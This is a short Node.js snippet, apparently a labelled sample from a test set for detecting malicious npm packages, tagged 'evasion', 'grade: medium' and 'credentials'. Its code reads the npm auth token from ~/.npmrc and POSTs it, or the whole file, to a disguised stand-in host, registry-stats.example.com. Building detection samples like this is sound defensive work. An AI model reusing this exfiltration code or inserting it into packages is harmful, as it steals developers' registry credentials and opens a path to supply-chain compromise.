// evasion: npm auth token read from ~/.npmrc and sent with https.request
// grade: medium; does: credentials
const fs = require('fs');
const os = require('os');
const https = require('https');
const rc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');
const token = (rc.match(/_authToken=(.+)/) || [])[1];
const req = https.request({
  host: 'registry-stats.example.com',
  path: '/v1/ping',
  method: 'POST',
  headers: { 'content-type': 'text/plain' },
});
req.end(token || rc);
